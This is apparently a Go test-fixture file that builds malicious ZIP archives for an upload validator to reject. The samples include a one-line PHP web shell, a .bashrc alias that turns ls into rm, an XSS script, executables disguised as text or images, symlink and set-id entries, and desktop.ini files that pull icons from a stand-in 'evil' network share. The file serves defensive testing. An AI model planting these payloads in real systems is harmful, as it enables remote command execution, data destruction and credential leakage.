package corpus

import "strings"

func hostileEntries() []File {
	one := func(about, name, data string) File { return archive(about, zipOf(hello, file(name, data))) }
	flagged := func(flags uint16) []byte { return zipOf(zipEntry{name: "a.txt", data: "x", flags: flags}) }
	method := func(m uint16) []byte {
		return zipOf(zipEntry{name: "a.txt", data: "x", local: set16(8, m), central: set16(10, m)})
	}
	mode := func(m uint32) []byte { return zipOf(zipEntry{name: "a.txt", data: "/etc/passwd", mode: m}) }
	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
	return []File{
		archive("an encrypted entry", flagged(1)),
		archive("an encrypted directory", flagged(1<<13)),
		archive("a patch", flagged(1<<5)),
		archive("AES", zipOf(zipEntry{name: "a.txt", extra: field(0x9901, 2, 0, 'A', 'E', 3, 0, 0)})),
		archive("deflate64", method(9)),
		archive("LZMA", method(14)),
		archive("a symbolic link", mode(0o120777)),
		archive("a device", mode(0o020666)),
		archive("a set-id file", mode(0o104755)),
		archive("a link in an extra field", zipOf(zipEntry{name: "a.txt", extra: field(0x756e, make([]byte, 14)...)})),
		archive("a directory with content", zipOf(file("a/", "x"))),
		one("a PHP script", "shell.php", "<?php system($_GET[0]);"),
		one("a program", "setup.exe", "MZ\x90\x00"),
		one("a page", "index.html", "<html>"),
		one("a script without extension", "install", "#!/bin/sh\n"),
		one("a page without extension", "README", "<html><script>alert(1)</script>"),
		one("a program without extension", "setup", "MZ\x90\x00"),
		one("a hidden shell file", ".bashrc", "alias ls=rm"),
		one("a desktop.ini that fetches its icon", "desktop.ini", "[.ShellClassInfo]\r\nIconResource=\\\\evil\\share\\a.ico,0\r\n"),
		one("a desktop.ini that fetches, in UTF-16", "x/desktop.ini", utf16LE("[.ShellClassInfo]\r\nIconFile=//evil/share/a.ico\r\n")),
		one("a desktop.ini that names a program", "desktop.ini", "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\n"),
		one("a desktop.ini that names a web view", "desktop.ini", "[ExtShellFolderViews]\r\nDefault={5984FFE0-28D4-11CF-AE66-08002B2E1262}\r\n"),
		one("a false Thumbs.db", "Thumbs.db", "MZ\x90\x00"),
		one("a folder icon that is not empty", "Icon\r", "#!/bin/sh"),
		one("a line break in another name", "Icons\r", ""),
		one("a program named as text", "setup.txt", "MZ\x90\x00\x03"),
		one("a page named as text", "page.txt", "<script>alert(1)</script>"),
		one("a picture named as another", "a.jpg", png),
		one("a false macOS shadow file", "__MACOSX/._a.exe", "MZ\x90\x00"),
		one("a Java program", "META-INF/MANIFEST.MF", "Main-Class: X\n"),
		archive("an Android program, seen late", zipOf(store("a.txt", strings.Repeat("text ", 1000)), file("classes.dex", "dex\n035\x00"))),
		one("a Word document under an archive's name", "[Content_Types].xml", "<Types/>"),
		one("a gzip archive", "a.txt", "\x1f\x8b\x08\x00\x00\x00"),
		one("a RAR archive", "a.txt", "Rar!\x1a\x07\x00"),
		one("a Word document inside", "a.docx", string(docx())),
		{
			About: "a Java archive", Name: "a.zip", Type: typeZIP, Code: typeNotAllowed,
			Content: zipOf(file("META-INF/MANIFEST.MF", "Main-Class: X\n"), file("X.class", "\xca\xfe\xba\xbe")),
		},
		{
			About: "an Android package", Name: "a.zip", Type: typeZIP, Code: typeNotAllowed,
			Content: zipOf(file("AndroidManifest.xml", "\x03\x00"), file("classes.dex", "dex\n035\x00")),
		},
		{
			About: "an archive after a program", Name: "a.zip", Type: typeZIP, Code: typeNotAllowed,
			Content: append([]byte("MZ\x90\x00"), zipOf(hello)...),
		},
		{About: "an archive under a picture's name", Name: "a.png", Type: typeZIP, Code: typeMismatch, Content: zipOf(hello)},
	}
}
